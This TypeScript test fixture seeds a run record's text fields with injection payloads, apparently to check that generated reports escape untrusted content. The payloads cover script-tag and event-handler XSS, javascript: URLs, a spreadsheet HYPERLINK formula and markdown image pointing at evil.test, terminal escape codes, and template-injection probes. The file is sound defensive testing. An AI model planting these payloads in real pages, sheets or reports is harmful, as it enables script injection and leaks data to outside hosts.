import type { RunRecord } from '../run/record.ts';

/** What a subject may send to whoever reads a report of it. */
export const PAYLOADS: readonly string[] = [
  '<script>globalThis.taken = 1</script>',
  '"><img src=x onerror="globalThis.taken = 2">',
  "' onmouseover='globalThis.taken = 3' x='",
  '</pre></style></script><svg onload=globalThis.taken=4>',
  'javascript:globalThis.taken=5',
  '=HYPERLINK("https://evil.test/?"&A1;"click")',
  '![x](https://evil.test/x.png) [y](javascript:1) | <b>|\n## a heading',
  '\u{1b}]0;title\u{7}\u{1b}[2J\u{202e}txet desrever\u{0}\u{2028}',
  '${7*7} {{7*7}} <%= 7 %> &amp; &#60;b&#62;',
  ']]><x/>',
];

/** A record in which everything that may come from a subject, or from the files of whoever ran it, is a payload. */
export function hostile(record: RunRecord): RunRecord {
  let at = 0;
  // Each turn starts one later: else a field that comes every tenth time would meet one payload alone.
  const next = (): string => {
    const turn = Math.floor(at / PAYLOADS.length);
    return PAYLOADS[(at++ + turn) % PAYLOADS.length] ?? '';
  };
  const FREE = new Set([
    'because',
    'reason',
    'body',
    'title',
    'what',
    'name',
    'suite',
    'version',
    'expected',
  ]);
  const sour = (value: unknown, key = ''): unknown => {
    if (typeof value === 'string') return FREE.has(key) ? `${next()} ${value}` : value;
    if (Array.isArray(value)) {
      return key === 'headers'
        ? [...(value as unknown[]), ['X-Hostile', next()], [next(), next()]]
        : value.map((each) => sour(each, key === 'trace' ? 'because' : key));
    }
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, sour(each, name)]));
  };
  return {
    ...record,
    subject: { url: `https://x.test/${encodeURIComponent(next())}`, connect: next(), standIn: next() },
    selection: [next()],
    findings: sour(record.findings) as RunRecord['findings'],
    noted: sour(record.noted) as RunRecord['noted'],
    pending: record.pending.map((each) => ({ ...each, needs: next() })),
  };
}
